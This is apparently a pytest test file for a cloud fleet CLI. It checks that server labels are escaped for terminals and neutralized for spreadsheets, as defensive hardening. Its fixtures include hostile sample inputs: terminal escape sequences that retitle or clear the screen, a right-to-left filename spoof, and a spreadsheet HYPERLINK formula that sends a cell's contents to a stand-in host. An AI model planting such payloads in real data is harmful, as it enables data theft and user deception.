"""Hardening (issue 26): output safe for terminals and spreadsheets. Server labels with terminal escape
sequences and spreadsheet formulas, read live from the emulator over loopback by `fleet`, and the same
strings selected through `sql`: table output shows every control character escaped, csv neutralizes a
formula start (OWASP) and escapes terminal controls, json stays exact. A key shorter than 16
characters is refused as implausible instead of masking ordinary words."""
from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from pipeline.collect.collector import collect
from pipeline.fakeapi import FakeVultr
from pipeline.safe_text import quoted, spreadsheet_text, terminal_text
from tests.conftest import fast_settings

KEY = "HARDKEY0123456789ABCDEFGHIJ"
RETITLE = "\x1b]0;pwned\x07web"  # sets the terminal's title
CLEAR = "db\x1b[2J\x1b[H"  # clears the screen
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
BIDI = "ok\u202etxt.exe"  # right-to-left override: shows as "okexe.txt"
LABELS = (RETITLE, CLEAR, FORMULA, "+1", "-2", "@SUM(A1)", BIDI, "plain")


@pytest.fixture
def fleet_api():
    with FakeVultr(rate_limit=False, api_key=KEY).start() as emulator:
        yield emulator


@pytest.fixture
def fleet(fleet_api, data_dir, monkeypatch):
    monkeypatch.setenv("VULTR_API_KEY", KEY)
    collect(fast_settings(fleet_api, data_dir, requests_per_second=500))
    catalog = fleet_api.v2_catalog()
    region = next(r for r in catalog.regions if r["id"] == "ewr")
    plan = next(p for p in catalog.plans if p["id"] == "vc2-1c-2gb")
    for label in LABELS:
        fleet_api.fleets["v2"].add(label, region, plan, catalog.os[-1], datetime.now(UTC) - timedelta(days=1))
    return fleet_api


def run_fleet(cli, api, data_dir, fmt):
    return cli("fleet", "--base-url", f"{api.base_url}/v2", "--data-dir", str(data_dir), "--format", fmt)


def no_controls(text: str) -> bool:
    return not any((ord(c) < 32 and c != "\n") or 0x7f <= ord(c) <= 0x9f or c == "\u202e" for c in text)


def test_fleet_table_shows_control_characters_escaped(fleet, data_dir, cli):
    run = run_fleet(cli, fleet, data_dir, "table")
    assert run.returncode == 0, run.stderr
    assert no_controls(run.stdout) and no_controls(run.stderr)
    assert "\\x1b]0;pwned\\x07web" in run.stdout and "db\\x1b[2J\\x1b[H" in run.stdout
    assert "ok\\u202etxt.exe" in run.stdout


def test_fleet_csv_neutralizes_formulas_and_escapes_controls(fleet, data_dir, cli):
    import csv
    import io

    run = run_fleet(cli, fleet, data_dir, "csv")
    assert run.returncode == 0, run.stderr
    assert no_controls(run.stdout.replace("\r", ""))
    labels = {row["label"] for row in csv.DictReader(io.StringIO(run.stdout))}
    assert labels == {"\\x1b]0;pwned\\x07web", "db\\x1b[2J\\x1b[H", "'" + FORMULA, "'+1", "'-2", "'@SUM(A1)",
                      "ok\\u202etxt.exe", "plain"}
    numbers = next(csv.DictReader(io.StringIO(run.stdout)))["monthly_cost_usd"]
    assert not numbers.startswith("'")  # numbers are never touched, negative savings included


def test_fleet_json_keeps_the_labels_exact(fleet, data_dir, cli):
    run = run_fleet(cli, fleet, data_dir, "json")
    assert run.returncode == 0, run.stderr
    assert {row["label"] for row in json.loads(run.stdout)} == set(LABELS)


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_sql_output_is_escaped_in_cells_and_headers(demo_dir, cli, fmt):
    run = cli("sql", "select chr(27) || ']0;x' || chr(7) as \"h\x1b[2J\", '=1+1' as f, -1.5 as n",
              "--data-dir", str(demo_dir), "--format", fmt)
    assert run.returncode == 0, run.stderr
    assert no_controls(run.stdout.replace("\r", "")) and "\\x1b]0;x\\x07" in run.stdout and "h\\x1b[2J" in run.stdout
    if fmt == "csv":
        assert run.stdout.splitlines()[1].split(",")[1:] == ["'=1+1", "-1.50"]


def test_a_short_key_is_refused_as_implausible(fleet_api, data_dir, cli, monkeypatch):
    monkeypatch.setenv("VULTR_API_KEY", "ewr")
    run = run_fleet(cli, fleet_api, data_dir, "table")
    assert run.returncode == 1 and run.stdout == ""
    (line,) = run.stderr.strip().splitlines()
    assert line == ("Error: VULTR_API_KEY is 3 characters long: a Vultr API key has 36, and one shorter than 16 "
                    "is refused as implausible; check how it is set")
    assert fleet_api.requests == []  # refused before any request


def test_safe_text_rules():
    assert terminal_text("a\x1b[31mb\u202ec\n\t\x9b") == "a\\x1b[31mb\\u202ec\\n\\t\\x9b"
    assert [spreadsheet_text(s) for s in ("=1", "+1", "-1", "@x", "\tx", "a=1", "")] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "a=1", ""]
    assert quoted("x" * 100_000) == repr("x" * 80) + "... (100,000 chars)"
    assert quoted("a\x1b") == "'a\\x1b'"
